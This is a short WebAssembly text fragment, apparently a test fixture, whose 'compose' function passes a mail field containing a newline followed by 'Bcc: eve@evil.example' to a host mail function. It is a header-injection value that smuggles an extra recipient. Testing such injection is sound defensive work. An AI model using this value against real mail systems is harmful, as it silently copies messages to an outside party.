;; Composes a preview that would forge a header.
(data (i32.const 2048) "news\nBcc: eve@evil.example")
(func (export "compose") (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32) (result i32)
  (call $mail (i32.const 256) (i32.const 7) (i32.const 2048) (i32.const 26)
    (i32.const 256) (i32.const 7) (i32.const 256) (i32.const 7)))
